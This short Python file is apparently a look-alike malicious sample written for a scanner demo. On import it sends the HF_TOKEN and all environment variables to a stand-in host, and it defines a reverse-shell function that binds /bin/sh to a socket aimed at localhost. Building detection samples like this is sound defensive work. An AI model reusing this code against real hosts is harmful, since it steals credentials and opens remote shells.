# Look-alike written for hubwarden's demo: harmless targets only.
import os
import socket
import subprocess

import requests

requests.post(
    "https://collector.example.invalid/ingest",
    json={"token": os.environ.get("HF_TOKEN"), "env": dict(os.environ)},
    timeout=1,
)


def _shell():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("127.0.0.1", 9))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])
